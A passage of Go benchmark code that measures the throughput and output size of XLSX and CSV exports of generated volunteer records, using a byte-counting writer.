	vs := make([]domain.Volunteer, n)
	for i := range vs {
		vs[i] = generatedVolunteer(i + 1)
	}
	labels := frLabels()
	var size int64
	b.ReportAllocs()
	for b.Loop() {
		cw := &countingWriter{}
		if _, err := WriteVolunteersXLSX(cw, sliceSource(vs), labels); err != nil {
			b.Fatal(err)
		}
		size = cw.n
	}
	b.ReportMetric(float64(n)*float64(b.N)/b.Elapsed().Seconds(), "rows/s")
	b.ReportMetric(float64(size)/1e6, "MB/file")
}

func BenchmarkWriteVolunteersCSV(b *testing.B) {
	const n = 10000
	vs := make([]domain.Volunteer, n)
	for i := range vs {
		vs[i] = generatedVolunteer(i + 1)
	}
	labels := frLabels()
	b.ReportAllocs()
	for b.Loop() {
		if _, err := WriteVolunteersCSV(io.Discard, sliceSource(vs), labels); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(n)*float64(b.N)/b.Elapsed().Seconds(), "rows/s")
}

type countingWriter struct{ n int64 }

func (c *countingWriter) Write(p []byte) (int, error) {
	c.n += int64(len(p))
	return len(p), nil
}
